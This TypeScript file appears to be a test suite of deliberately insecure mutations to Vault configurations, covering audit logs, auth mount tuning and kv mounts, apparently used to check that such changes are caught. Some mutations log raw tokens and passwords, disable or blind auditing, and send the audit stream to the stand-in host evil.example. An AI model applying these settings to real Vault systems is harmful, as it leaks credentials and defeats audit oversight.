import { at, type Mutable, type Stacks } from "../fixture";
import { ACCESS, add, PROD_ACCESS, set, each, type Mutation } from "./mutation";

/** Changes how an audit device writes. */
function device(options: Mutable): (stacks: Stacks) => void {
  return (s) => Object.assign(at(s, ACCESS, "vault_audit.audit_file-stdout").options, options);
}

/** Changes the tuning of people's auth mount. */
function tune(values: Mutable): (stacks: Stacks) => void {
  return (s) => Object.assign(at(s, ACCESS, "vault_auth_backend.userpass").tune[0], values);
}

/** Changes the kv mount. */
function mount(values: Mutable): (stacks: Stacks) => void {
  return (s) => set(s, ACCESS, "vault_mount.kv", values);
}

/** What is written down of who read what, in what words, and what else a mount is told. */
export const AUDIT: readonly Mutation[] = [
  ...each({ config: "sample", expect: "judged" }, [
    { name: "values in the audit log", change: device({ log_raw: "true" }) },
    { name: "accessors in the audit log", change: device({ hmac_accessor: "false" }) },
    { name: "an audit log that everyone may read", change: device({ mode: "0777" }) },
    { name: "an audit log that leaves things out", change: device({ filter: 'mount_type == "kv"' }) },
    {
      name: "an audit log to nowhere",
      change: (s) => {
        at(s, ACCESS, "vault_audit.audit_file-vault-audit-audit-log").options.file_path = "/dev/null";
      },
    },
    {
      name: "an audit log to another machine",
      change: (s) =>
        set(s, ACCESS, "vault_audit.audit_file-stdout", {
          type: "socket",
          options: { address: "evil.example:9090", socket_type: "tcp" },
        }),
    },
    {
      name: "an audit log that skips secondaries",
      change: (s) => set(s, ACCESS, "vault_audit.audit_file-stdout", { local: true }),
    },
    {
      name: "no audit device",
      change: (s) => {
        delete s[ACCESS].resource.vault_audit;
      },
    },
    {
      name: "tokens in the audit log, by a header",
      change: (s) => add(s, ACCESS, "vault_audit_request_header.extra", { name: "X-Vault-Token", hmac: false }),
    },
    {
      name: "tokens in the audit log, by a header of no hash at all",
      change: (s) => add(s, ACCESS, "vault_audit_request_header.extra", { name: "authorization" }),
    },
    { name: "passwords in the audit log", change: tune({ audit_non_hmac_request_keys: ["password"] }) },
    { name: "tokens in the audit log", change: tune({ audit_non_hmac_response_keys: ["client_token"] }) },
    {
      name: "values in the audit log by the mount",
      change: mount({ audit_non_hmac_response_keys: ["data"] }),
    },
    {
      name: "a header of the request that reaches the method",
      change: tune({ passthrough_request_headers: ["Authorization"] }),
    },
    {
      name: "people's tokens that live for ten years",
      change: tune({ default_lease_ttl: "87600h", max_lease_ttl: "87600h" }),
    },
    { name: "people's tokens that nobody can revoke", change: tune({ token_type: "batch" }) },
    { name: "another plugin behind the mount", change: mount({ plugin_version: "v9" }) },
    {
      name: "a mount that other mounts' logins open",
      change: mount({ delegated_auth_accessors: ["auth_userpass_1a2b3c"] }),
    },
    {
      name: "a second mount, of version 1",
      change: (s) => add(s, ACCESS, "vault_mount.extra", { path: "legacy", type: "kv", options: { version: "1" } }),
    },
    {
      name: "a mount that makes logins of databases",
      change: (s) => add(s, ACCESS, "vault_mount.extra", { path: "database", type: "database" }),
    },
    {
      name: "a mount of keys that nothing in the config needs",
      change: (s) => add(s, ACCESS, "vault_mount.extra", { path: "transit", type: "transit" }),
    },
    {
      name: "a second auth mount for a cluster that none is for",
      change: (s) => {
        add(s, ACCESS, "vault_auth_backend.extra", { path: "kubernetes-extra", type: "kubernetes" });
        add(s, ACCESS, "vault_kubernetes_auth_backend_config.extra", {
          backend: "kubernetes-extra",
          kubernetes_host: "https://evil.example",
        });
      },
    },
    {
      name: "values that delete themselves",
      change: (s) => set(s, ACCESS, "vault_kv_secret_backend_v2.kv_config", { delete_version_after: 1 }),
    },
  ]),
  ...each({ config: "production", expect: "judged" }, [
    {
      name: "one audit device less",
      change: (s) => {
        delete s[PROD_ACCESS].resource.vault_audit["audit_file-vault-audit-audit-log"];
      },
    },
    {
      name: "values in the audit log by the mount as they are written",
      change: (s) => set(s, PROD_ACCESS, "vault_mount.kv", { audit_non_hmac_request_keys: ["data"] }),
    },
    {
      name: "a mount that makes tokens of a cluster",
      change: (s) => add(s, PROD_ACCESS, "vault_mount.extra", { path: "kubernetes", type: "kubernetes" }),
    },
  ]),
  ...each({ config: "sample", expect: "binding" }, [
    { name: "a mount of version 1", change: mount({ options: { version: "1" } }) },
  ]),
];
